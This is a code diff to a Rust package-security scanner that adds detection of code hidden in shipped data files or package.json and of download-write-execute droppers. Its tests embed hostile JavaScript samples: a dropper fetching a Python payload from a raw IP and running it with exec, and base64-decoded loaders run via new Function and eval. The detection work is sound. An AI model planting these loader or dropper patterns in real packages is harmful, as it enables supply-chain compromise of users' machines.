@@ -123,7 +123,56 @@ enum Origin {
     Received,
     /// An incoming HTTP request to a server in the package.
     Inbound,
+    /// A file the package ships that is not code (`logo.dat`, `fonts/x.woff`, a field of its
+    /// own package.json): a payload kept where code scanners do not look.
+    DataFile,
 }
+
+/// Extensions of shipped files that are data, not code.
+const DATA_EXTENSIONS: &[&str] = &[
+    ".dat",
+    ".txt",
+    ".png",
+    ".jpg",
+    ".jpeg",
+    ".gif",
+    ".ico",
+    ".svg",
+    ".bmp",
+    ".webp",
+    ".woff",
+    ".woff2",
+    ".ttf",
+    ".otf",
+    ".eot",
+    ".css",
+    ".md",
+    ".bin",
+    ".log",
+    ".lock",
+    ".csv",
+    ".xml",
+    ".yml",
+    ".yaml",
+    ".db",
+    ".wasm.map",
+    ".mp3",
+    ".wav",
+    ".pdf",
+    ".zip",
+    ".gz",
+];
+
+/// Text that turns stored bytes back into code.
+const DECODERS: &[&str] = &[
+    "base64",
+    "'hex'",
+    "\"hex\"",
+    "reverse()",
+    "fromcharcode",
+    "atob(",
+    "createdecipher",
+];
 
 /// Words that are never the variable holding code.
 const NOT_VARIABLES: &[&str] = &[
@@ -243,7 +292,18 @@ fn marked(text: &str, received_possible: bool) -> Option<Origin> {
     if INBOUND.iter().any(|m| lower.contains(m)) {
         return Some(Origin::Inbound);
     }
-    (received_possible && RECEIVED.iter().any(|m| lower.contains(m))).then_some(Origin::Received)
+    if received_possible && RECEIVED.iter().any(|m| lower.contains(m)) {
+        return Some(Origin::Received);
+    }
+    // A shipped data file read (`readFileSync(path.join(__dirname, 'logo.dat'))`), or the
+    // package's own manifest (`require('./package.json').config.x`).
+    let reads = lower.contains("readfilesync(") || lower.contains("readfile(");
+    let data_file = reads
+        && DATA_EXTENSIONS
+            .iter()
+            .any(|ext| ["'", "\"", "`"].iter().any(|q| lower.contains(&format!("{ext}{q}"))));
+    let manifest = lower.contains("package.json") && (reads || lower.contains("require("));
+    (data_file || manifest).then_some(Origin::DataFile)
 }
 
 /// The first 1-based line on which `name` appears as a whole word (its declaration, when it is
@@ -266,11 +326,19 @@ struct Tracer<'a> {
     lines: Vec<&'a str>,
     received_possible: bool,
     visited: Vec<&'a str>,
+    /// Whether the value passed through a decoder on its way (base64, hex, reversal).
+    decoded: bool,
+}
+
+fn decodes(text: &str) -> bool {
+    let lower = text.to_ascii_lowercase();
+    DECODERS.iter().any(|d| lower.contains(d))
 }
 
 impl<'a> Tracer<'a> {
     /// Where the value of the source fragment comes from, following its variables back.
     fn origin(&mut self, fragment: &'a str, depth: u32) -> Option<(Origin, u32)> {
+        self.decoded |= decodes(fragment);
         if let Some(origin) = marked(fragment, self.received_possible) {
             return Some((origin, 0));
         }
@@ -291,6 +359,7 @@ impl<'a> Tracer<'a> {
                     continue;
                 };
                 if let Some(origin) = marked(source, self.received_possible) {
+                    self.decoded |= decodes(source);
                     return Some((origin, line));
                 }
                 // Follow what is assigned: the text after the name's `=`.
@@ -298,9 +367,12 @@ impl<'a> Tracer<'a> {
                     .find(name)
                     .and_then(|at| source[at + name.len()..].split_once('='))
                     .map_or("", |(_, right)| right);
+                let decoded_before = self.decoded;
                 if let Some((origin, inner)) = self.origin(right, depth + 1) {
                     return Some((origin, if inner > 0 { inner } else { line }));
                 }
+                // A dead end's decoders say nothing about this value.
+                self.decoded = decoded_before;
             }
         }
         None
@@ -327,6 +399,69 @@ fn code_arguments(call: &Call) -> Vec<&str> {
     args.into_iter().take(1).collect()
 }
 
+/// A file written with downloaded data (`fs.writeFileSync(file, body)`) and then run: its path
+/// (folded value or variable) in a command, `fork`, `require` or `eval` call.
+fn download_write_run<'a>(file: &'a FileFacts, tracer: &mut Tracer<'a>) -> Option<Finding> {
+    for write in file.calls.iter().filter(|c| signals::is_write_call(c)) {
+        let args = arguments(&write.excerpt);
+        let (Some(path), Some(data)) = (args.first().copied(), args.get(1).copied()) else {
+            continue;
+        };
+        if identifiers(data).is_empty() && marked(data, true).is_none() {
+            continue;
+        }
+        tracer.visited.clear();
+        let Some((Origin::Received, from_line)) = tracer.origin(data, 0) else {
+            continue;
+        };
+        let value = signals::arg_text(write, 0);
+        let variable = (!path.contains(['\'', '"', '`', '('])).then_some(path.trim());
+        let is_word = |text: &str, word: &str| {
+            text.split(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '$'))
+                .any(|w| w == word)
+        };
+        let run = file.calls.iter().find(|call| {
+            if std::ptr::eq(*call, write) {
+                return false;
+            }
+            let runs = sinks::is_exec_call(call)
+                || sinks::is_eval(call)
+                || matches!(sinks::normalize(&call.callee), "require" | "child_process.fork");
+            if !runs {
+                return false;
+            }
+            let names_value = value.len() >= 4 && signals::call_text(call).contains(&value);
+            let names_variable =
+                variable.is_some_and(|v| arguments(&call.excerpt).into_iter().take(2).any(|a| is_word(a, v)));
+            names_value || names_variable
+        })?;
+        let runner = signals::method(sinks::normalize(&run.callee));
+        let from = if from_line > 0 {
+            format!(" (line {from_line})")
+        } else {
+            String::new()
+        };
+        let mut finding = sinks::finding(
+            &INFO,
+            file,
+            run.line,
+            Severity::Critical,
+            Confidence::High,
+            format!(
+                "Writes data received over the network{from} to a file (line {}) and runs it with `{runner}`: a download-and-execute dropper",
+                write.line
+            ),
+            Some(&sinks::call_evidence(file, run)),
+        );
+        if sinks::is_exec_call(run) {
+            finding.capabilities.push(Capability::Shell);
+        }
+        finding.capabilities.push(Capability::Filesystem);
+        return Some(finding);
+    }
+    None
+}
+
 impl FileRule for RemoteCode {
     fn info(&self) -> &'static RuleInfo {
         &INFO
@@ -337,22 +472,33 @@ impl FileRule for RemoteCode {
         if !sinks::is_small_handwritten(file) {
             return;
         }
-        let mut tracer: Option<Tracer<'_>> = None;
+        let runs_anything = file.calls.iter().any(|c| sinks::is_eval(c) || sinks::is_exec_call(c));
+        if !runs_anything {
+            return;
+        }
+        let received_possible = sinks::has_network(file)
+            || file
+                .imports
+                .iter()
+                .any(|m| matches!(m.as_str(), "net" | "node:net" | "tls" | "node:tls"));
+        let mut tracer = Tracer {
+            text,
+            lines: text.lines().take(20_000).collect(),
+            received_possible,
+            visited: Vec::new(),
+            decoded: false,
+        };
+        if received_possible {
+            if let Some(finding) = download_write_run(file, &mut tracer) {
+                out.push(finding);
+            }
+        }
+        let tracer = &mut tracer;
         for call in &file.calls {
             let eval = sinks::is_eval(call);
             if !eval && !sinks::is_exec_call(call) {
                 continue;
             }
-            let tracer = tracer.get_or_insert_with(|| Tracer {
-                text,
-                lines: text.lines().take(20_000).collect(),
-                received_possible: sinks::has_network(file)
-                    || file
-                        .imports
-                        .iter()
-                        .any(|m| matches!(m.as_str(), "net" | "node:net" | "tls" | "node:tls")),
-                visited: Vec::new(),
-            });
             let mut found = None;
             for fragment in code_arguments(call) {
                 // Literal code or commands are not received.
@@ -360,12 +506,18 @@ impl FileRule for RemoteCode {
                     continue;
                 }
                 tracer.visited.clear();
+                tracer.decoded = false;
                 if let Some(origin) = tracer.origin(fragment, 0) {
                     found = Some(origin);
                     break;
                 }
             }
             let Some((origin, from_line)) = found else { continue };
+            // Commands are built from the manifest all the time (`git tag v${pkg.version}`):
+            // only a decoded one is a hidden payload.
+            if origin == Origin::DataFile && !eval && !tracer.decoded {
+                continue;
+            }
             let what = if eval { "code" } else { "a command" };
             let runner = signals::method(sinks::normalize(&call.callee));
             let from = if from_line > 0 && from_line != call.line {
@@ -373,7 +525,21 @@ impl FileRule for RemoteCode {
             } else {
                 String::new()
             };
+            let decoded = tracer.decoded;
             let (severity, confidence, message) = match origin {
+                Origin::DataFile if eval => (
+                    if decoded { Severity::Critical } else { Severity::High },
+                    if decoded { Confidence::High } else { Confidence::Medium },
+                    format!(
+                        "Runs code stored in a shipped data file or its package.json{from}{} with `{runner}`: a payload kept where code review and scanners do not look",
+                        if decoded { ", decoded first" } else { "" }
+                    ),
+                ),
+                Origin::DataFile => (
+                    Severity::High,
+                    Confidence::Medium,
+                    format!("Runs a command stored in a shipped data file or its package.json{from} with `{runner}`"),
+                ),
                 Origin::Received => (
                     Severity::Critical,
                     Confidence::High,
@@ -467,6 +633,43 @@ s.on("command", (cmd) => {
 });
 "#;
         assert_eq!(run(socket)[0].severity, Severity::Critical, "{:#?}", run(socket));
+    }
+
+    #[test]
+    fn downloaded_file_written_then_run_is_critical() {
+        let source = r#"const fs = require("fs"), os = require("os"), path = require("path");
+const request = require("request");
+const { exec } = require("child_process");
+const file = path.join(os.homedir(), ".npl", "p.py");
+request.get("http://45.61.128.23:1224/client/5346/9", (err, res, body) => {
+  if (err) return;
+  fs.writeFileSync(file, body);
+  exec(`python3 "${file}"`, { windowsHide: true });
+});
+"#;
+        let found = run(source);
+        assert_eq!(found.len(), 1, "{found:#?}");
+        assert_eq!(found[0].severity, Severity::Critical);
+        assert_eq!(found[0].line, Some(8));
+        // Data files and code payloads in the package itself.
+        let data = "const fs = require('fs'), path = require('path');\nconst data = fs.readFileSync(path.join(__dirname, 'assets', 'logo.dat'), 'utf8');\nconst code = Buffer.from(data.split('').reverse().join(''), 'base64').toString();\nnew Function(code)();";
+        let found = run(data);
+        assert_eq!(
+            found.first().map(|f| f.severity),
+            Some(Severity::Critical),
+            "{found:#?}"
+        );
+        let manifest =
+            "const pkg = require('./package.json');\neval(Buffer.from(pkg.config.telemetry, 'base64').toString());";
+        assert_eq!(
+            run(manifest).first().map(|f| f.severity),
+            Some(Severity::Critical),
+            "{:#?}",
+            run(manifest)
+        );
+        // A download saved to disk and opened by the user's viewer is not run by the package.
+        let saved = "const fs = require('fs'), https = require('https');\nhttps.get('https://example.com/report.pdf', (res) => { let d = ''; res.on('data', (c) => (d += c)); res.on('end', () => fs.writeFileSync('report.pdf', d)); });\nrequire('child_process').exec('git status');";
+        assert!(run(saved).is_empty(), "{:#?}", run(saved));
     }
 
     #[test]
